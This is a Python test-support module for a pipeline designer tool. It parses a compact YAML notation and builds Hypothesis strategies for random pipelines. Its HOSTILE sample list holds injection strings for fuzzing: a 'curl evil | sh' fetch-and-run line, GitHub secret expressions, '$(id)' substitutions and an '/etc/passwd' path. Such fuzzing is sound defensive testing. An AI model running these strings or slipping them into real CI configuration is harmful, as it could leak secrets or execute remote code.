"""Pipelines for tests of the plan and the targets: a short notation, and random ones with hostile texts."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import Any

from hypothesis import strategies as st

from designer import yaml_io
from designer.model.snapshot import Snapshot
from designer.model.step import Link, Step, frozen
from designer.plan.plan import Plan
from designer.plan.planner import make_plan
from designer.steps.catalog import Catalog, load_catalog

CATALOG: Catalog = load_catalog()
_LINK = re.compile(r"(\S+) (->|~>) (\S+)(?: \[([a-z, ]+)\])?\Z")

IMPROVED = """
pipeline: {scope: online, repo: true, triggers: [push, schedule], name: seed-improved, notify_on_failure: true}
steps:
  data: {kind: data_source, encrypted: true, access: rbac, personal_data: none}
  snap: {kind: version, artifacts: [data]}
  check: {kind: validate_data, checks: [schema, ranges]}
  tests: {kind: code_test, levels: [unit]}
  train: {kind: train, tracked: true, runs_on: ci}
  eval: {kind: evaluate, threshold: true}
  reg: {kind: register}
  image: {kind: package, immutable_tag: true}
  deploy: {kind: deploy, method: auto, platform: kubernetes, autoscaling: true, access: rbac}
  watch: {kind: monitor, watches: [service, performance], alerts: true}
  drift: {kind: drift, reference: training, frequency: daily}
  again: {kind: retrain_trigger, condition: drift share > 0.5}
links: [data -> snap, snap -> check, check -> train, tests -> train, train -> eval, eval -> reg, reg -> image,
  image -> deploy, deploy -> watch, deploy -> drift, drift -> again, again ~> train]
"""


def snapshot(text: str) -> Snapshot:
    """A snapshot from the notation of the documents, without positions."""
    data = yaml_io.load(text, "test")
    steps = {i: step(i, dict(facts or {})) for i, facts in (data.get("steps") or {}).items()}
    links = [link(k) for k in data.get("links") or ()]
    return Snapshot(steps, {k.id: k for k in links}, frozen(data.get("pipeline") or {}))


def step(step_id: str, facts: dict[str, Any]) -> Step:
    kind, title = facts.pop("kind", "other"), facts.pop("title", "")
    return Step(step_id, kind, title, frozen(facts))


def link(text: str) -> Link:
    found = _LINK.match(text)
    assert found, text
    marks = {w.strip() for w in (found[4] or "").split(",")}
    when = next((w for w in ("always", "failure") if w in marks), "success")
    carries = next((w for w in ("data", "control") if w in marks), "any")
    return Link(found[1], found[3], "flow" if found[2] == "->" else "feedback", when, carries)


def plan(text: str) -> Plan:
    return make_plan(snapshot(text), CATALOG)


HOSTILE = st.one_of(
    st.text(max_size=30),
    st.sampled_from(
        [
            "${{ secrets.KUBE_CONFIG }}",
            "a ${{ github.token }} b",
            "}} ${{",
            "' || true || '",
            '"; curl evil | sh #',
            "line one\nline two",
            "# not a comment",
            "key: value",
            "- item",
            "${HOME} $(id) `id`",
            r"back\slash ${x} \${y}",
            "on",
            "yes",
            "null",
            "1e3",
            "\u2028\x85\x07",
            "*anchor &x !tag",
            "{a: [b",
            "...",
            "---",
            "ünï ☃",
            " leading and trailing ",
            "tab\tinside",
        ]
    ),
)
_IDS = st.one_of(
    st.from_regex(r"[A-Za-z_][A-Za-z0-9_-]{0,8}", fullmatch=True),
    st.sampled_from(["on", "yes", "null", "Train", "train", "TRAIN", "train_2", "Train_2", "true", "n", "__", "A-"]),
)
_BRANCHES = st.lists(
    st.one_of(st.sampled_from(["main", "develop", "release/*", "it's", "a b", "**"]), HOSTILE), max_size=2
)
EVENTS = CATALOG.pipeline_fields["triggers"].type.choices
_EVENTS = st.lists(
    st.sampled_from(EVENTS),
    max_size=4,
)
_PATHS = st.lists(
    st.one_of(
        st.sampled_from(
            ["data/x.csv", "data", "models/train.joblib", "../out", "/etc/passwd", "reports/a/b.json", "a.b"]
        ),
        HOSTILE,
    ),
    max_size=3,
)


def _value(field: Any) -> st.SearchStrategy[Any]:
    """A value of a field's type, and now and then one of another type."""
    base = {
        "bool": st.booleans(),
        "int": st.integers(-5, 500),
        "enum": st.sampled_from(field.type.choices or ("x",)),
        "list": st.lists(st.sampled_from(field.type.choices or ("main", "x")), max_size=3),
    }.get(field.type.base, HOSTILE)
    return st.one_of(base, base, base, HOSTILE, st.none(), st.integers(), st.lists(HOSTILE, max_size=2))


@st.composite
def steps(draw: st.DrawFn, step_id: str) -> Step:
    kind = draw(st.sampled_from([*sorted(CATALOG.kinds), "unheard_of"]))
    fields = [f for n, f in CATALOG.fields(kind).items() if n not in ("suppress", "model")]
    facts = {f.name: draw(_value(f)) for f in draw(st.lists(st.sampled_from(fields), max_size=4))}
    special = {"branches": _BRANCHES, "triggers": _EVENTS, "produces": _PATHS, "consumes": _PATHS, "command": HOSTILE}
    for name in draw(st.lists(st.sampled_from(sorted(special)), max_size=2)):
        facts[name] = draw(special[name])
    return Step(step_id, kind, draw(st.one_of(st.just(""), HOSTILE)), frozen(facts))


@st.composite
def snapshots(draw: st.DrawFn) -> Snapshot:
    """Any pipeline that can be drawn: flow links run along a hidden order, feedback links anywhere."""
    ids = draw(st.lists(_IDS, min_size=1, max_size=9, unique=True))
    drawn = {i: draw(steps(i)) for i in ids}
    first = drawn[ids[0]]  # a pipeline of implicit steps alone has nothing to export
    drawn[ids[0]] = replace(first, attributes=frozen({k: v for k, v in first.attributes.items() if k != "implicit"}))
    links: dict[str, Link] = {}
    if len(ids) > 1:
        for _ in range(draw(st.integers(0, 14))):
            a, b = sorted(draw(st.lists(st.integers(0, len(ids) - 1), min_size=2, max_size=2, unique=True)))
            when = draw(st.sampled_from(["success", "success", "success", "always", "failure"]))
            new = Link(ids[a], ids[b], "flow", when, draw(st.sampled_from(["any", "data", "control"])))
            if draw(st.integers(0, 5)) == 0:
                new = Link(ids[b], ids[a], "feedback")
            links[new.id] = new
    facts = {
        "name": draw(HOSTILE),
        "triggers": draw(_EVENTS),
        "branches": draw(_BRANCHES),
        "cache": draw(st.sampled_from([None, True, False])),
        "notify_on_failure": draw(st.booleans()),
    }
    return Snapshot(drawn, links, frozen({k: v for k, v in facts.items() if v is not None}))
